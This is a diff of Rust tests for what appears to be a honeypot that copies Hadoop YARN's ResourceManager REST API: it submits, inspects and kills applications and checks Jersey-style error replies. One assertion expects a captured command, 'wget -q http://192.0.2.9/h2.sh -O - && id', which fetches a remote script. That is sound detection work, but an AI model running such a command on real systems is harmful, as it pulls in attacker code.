@@ -52,18 +52,6 @@ fn yarn_tells_what_it_is_and_what_it_does_not_have() {
     assert!(get("hadoop", "/ws/v1/cluster/apps/application_1_0001").2.contains("NotFoundException"));
 }
 
-/// Asks one after the other, on one connection; each must be answered with this status and a body that holds this.
-fn answered(script: &[(String, u16, &str)]) -> Outcome {
-    let steps: Vec<Step<'_>> = script.iter().map(|(request, _, _)| Step::Recv(request.as_bytes())).collect();
-    let outcome = Transcript::tcp("hadoop", "").run(&steps);
-    let all = answers(&outcome);
-    assert_eq!(all.len(), script.len());
-    for ((request, status, wanted), (given, _, body)) in script.iter().zip(all) {
-        assert!(given == *status && body.contains(wanted), "{request}: {given} {body}");
-    }
-    outcome
-}
-
 #[test]
 fn an_application_in_xml_for_a_named_user_is_recorded_shown_and_killed() {
     let body = "<application-submission-context><application-id>application_1_0007</application-id>\
@@ -75,18 +63,22 @@ fn an_application_in_xml_for_a_named_user_is_recorded_shown_and_killed() {
         "PUT /ws/v1/cluster/apps/application_1_0007/state HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{kill}",
         kill.len()
     );
-    let outcome = answered(&[
-        (post("/ws/v1/cluster/apps?user.name=hdfs", "application/xml", body), 202, ""),
-        (ask("apps/application_1_0007"), 200, "\"user\":\"hdfs\""),
-        (ask("apps?states=ACCEPTED,RUNNING"), 200, "application_1_0007"),
-        (ask("apps?user=root"), 200, "{\"apps\":null}"),
-        (ask("apps/application_1_0007/appattempts"), 200, "appattempt_1_0007_000001"),
-        (ask("apps/application_1_0007/appattempts/1/containers"), 200, "container_1_0007_01_000001"),
-        (ask("apps/application_1_0007/queue"), 200, "{\"queue\":\"default\"}"),
-        (put, 202, "KILLED"),
-        (ask("metrics"), 200, "\"appsKilled\":1"),
-        (ask("appstatistics"), 200, "{\"state\":\"KILLED\",\"type\":\"*\",\"count\":1}"),
-    ]);
+    let outcome = answered(
+        "hadoop",
+        0,
+        &[
+            (post("/ws/v1/cluster/apps?user.name=hdfs", "application/xml", body), 202, ""),
+            (ask("apps/application_1_0007"), 200, "\"user\":\"hdfs\""),
+            (ask("apps?states=ACCEPTED,RUNNING"), 200, "application_1_0007"),
+            (ask("apps?user=root"), 200, "{\"apps\":null}"),
+            (ask("apps/application_1_0007/appattempts"), 200, "appattempt_1_0007_000001"),
+            (ask("apps/application_1_0007/appattempts/1/containers"), 200, "container_1_0007_01_000001"),
+            (ask("apps/application_1_0007/queue"), 200, "{\"queue\":\"default\"}"),
+            (put, 202, "KILLED"),
+            (ask("metrics"), 200, "\"appsKilled\":1"),
+            (ask("appstatistics"), 200, "{\"state\":\"KILLED\",\"type\":\"*\",\"count\":1}"),
+        ],
+    );
     assert_eq!(outcome.the_event("command").fields["command"], "wget -q http://192.0.2.9/h2.sh -O - && id");
 }
 
@@ -94,17 +86,21 @@ fn an_application_in_xml_for_a_named_user_is_recorded_shown_and_killed() {
 fn what_no_service_has_or_takes_is_refused_as_jersey_refuses_it() {
     let ask =
         |method: &str, path: &str| format!("{method} {path} HTTP/1.1\r\nHost: rm:8088\r\nContent-Length: 0\r\n\r\n");
-    answered(&[
-        (ask("GET", "/ws/v1/cluster/nope"), 404, "null for uri: http://rm:8088/ws/v1/cluster/nope"),
-        (ask("DELETE", "/ws/v1/cluster/info"), 405, "javax.ws.rs.WebApplicationException"),
-        (ask("GET", "/ws/v1/cluster/apps/nope"), 400, "Invalid ApplicationId: nope"),
-        (ask("GET", "/ws/v1/cluster/nodes/x:1"), 404, "nodeId, x:1, is not found"),
-        (ask("POST", "/ws/v1/cluster/delegation-token"), 403, "Kerberos authenticated channel"),
-        (ask("GET", "/conf"), 200, "<name>hadoop.security.authentication</name><value>simple</value>"),
-        (ask("GET", "/jmx"), 200, "Hadoop:service=ResourceManager,name=RMInfo"),
-        (ask("GET", "/cluster/apps/FINISHED"), 200, "FINISHED Applications"),
-        (ask("GET", "/static/yarn.css"), 200, "#navcell"),
-    ]);
+    answered(
+        "hadoop",
+        0,
+        &[
+            (ask("GET", "/ws/v1/cluster/nope"), 404, "null for uri: http://rm:8088/ws/v1/cluster/nope"),
+            (ask("DELETE", "/ws/v1/cluster/info"), 405, "javax.ws.rs.WebApplicationException"),
+            (ask("GET", "/ws/v1/cluster/apps/nope"), 400, "Invalid ApplicationId: nope"),
+            (ask("GET", "/ws/v1/cluster/nodes/x:1"), 404, "nodeId, x:1, is not found"),
+            (ask("POST", "/ws/v1/cluster/delegation-token"), 403, "Kerberos authenticated channel"),
+            (ask("GET", "/conf"), 200, "<name>hadoop.security.authentication</name><value>simple</value>"),
+            (ask("GET", "/jmx"), 200, "Hadoop:service=ResourceManager,name=RMInfo"),
+            (ask("GET", "/cluster/apps/FINISHED"), 200, "FINISHED Applications"),
+            (ask("GET", "/static/yarn.css"), 200, "#navcell"),
+        ],
+    );
     let xml = "GET /ws/v1/cluster/info HTTP/1.1\r\nHost: x\r\nAccept: application/xml\r\n\r\n";
     let (_, head, body) = answers(&super::ask("hadoop", "", xml)).remove(0);
     assert!(head.contains("Content-Type: application/xml") && body.contains("<state>STARTED</state>"), "{body}");
